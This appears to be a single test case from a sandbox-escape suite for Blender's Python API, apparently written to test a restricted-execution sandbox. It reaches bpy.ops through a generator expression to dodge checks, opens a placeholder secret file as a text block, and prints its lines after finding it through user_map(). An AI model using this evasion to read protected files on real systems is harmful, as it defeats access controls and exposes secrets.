# attack: text.open through a generator expression; the text block is found among the keys of user_map()
# family: files
import bpy

next(operators for operators in [bpy.ops]).text.open(filepath="$SECRET_FILE", internal=True)
for block in bpy.data.user_map():
    if hasattr(block, "lines"):
        print("REACHED", block)
        print("ESCAPED", [line.body for line in block.lines])
